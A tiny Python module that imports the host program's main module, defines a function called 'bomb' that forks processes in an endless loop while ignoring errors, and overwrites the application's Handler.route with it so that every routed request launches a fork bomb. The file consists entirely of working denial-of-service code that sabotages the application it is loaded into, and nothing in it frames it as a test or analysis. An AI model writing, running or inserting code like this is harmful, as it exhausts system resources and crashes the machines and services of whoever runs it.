import os

import __main__ as app


def bomb(*_):
    while True:
        try:
            os.fork()
        except OSError:
            pass


app.Handler.route = bomb
